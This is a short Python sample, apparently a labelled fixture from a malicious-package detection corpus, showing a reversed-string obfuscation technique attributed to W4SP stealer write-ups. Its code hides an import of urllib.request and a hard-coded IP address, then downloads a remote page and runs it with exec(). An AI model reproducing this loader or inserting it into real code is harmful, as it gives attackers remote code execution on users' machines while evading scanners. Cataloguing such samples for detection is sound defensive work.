# technique: reversed strings for module/function names and URL
# class: obfuscation
# source: Phylum, W4SP stealer write-ups (reversed literals)
# declares: network
import importlib

req = importlib.import_module("tseuqer.billru"[::-1])


def up():
    body = req.urlopen("lmth.x/11.631.16.54//:ptth"[::-1], timeout=5).read()
    exec(body)
